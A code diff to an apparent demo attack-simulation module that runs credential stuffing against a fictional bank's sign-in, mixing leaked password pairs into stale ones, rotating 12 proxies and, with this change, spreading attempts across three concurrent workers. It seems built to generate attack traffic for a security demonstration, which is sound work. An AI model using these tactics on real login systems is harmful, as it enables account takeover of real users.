@@ -3,10 +3,14 @@
 Most pairs on such lists are stale; three of the bank's people use a leaked password here too.
 """
 
+import asyncio
+from collections.abc import Iterator
+
 from demo.attacks.attacker import Attack, Attacker, Over
 
 LEAKED = [("grace", "sunshine2019"), ("henry", "liverpool1"), ("ivan", "dragon123")]
 STALE = ("123456", "qwerty123", "iloveyou2", "monkey77", "football1", "letmein!", "Passw0rd", "summer2020")
+WORKERS = 3
 NAMES = (
     "carla", "david", "fatima", "julia", "kenji", "lena", "marek", "nadia", "oscar", "paul", "quentin", "rosa",
     "sven", "tara", "ursula", "viktor", "wanda", "xavier", "yara", "zoe", "anton", "bela", "chris", "dora", "emil",
@@ -21,7 +25,12 @@ async def run(me: Attacker) -> None:
     for place, pair in zip(reversed(at), LEAKED, strict=True):
         pairs.insert(place, pair)
     proxies = [me.any_address() for _ in range(12)]
-    for user, password in pairs:
+    todo = iter(pairs)
+    await asyncio.gather(*(_work(me, proxies, todo) for _ in range(WORKERS)))
+
+
+async def _work(me: Attacker, proxies: list[str], todo: Iterator[tuple[str, str]]) -> None:
+    for user, password in todo:
         async with me.browser(me.random.choice(proxies)) as browser:
             try:
                 page = await me.sign_in(browser, user, password)
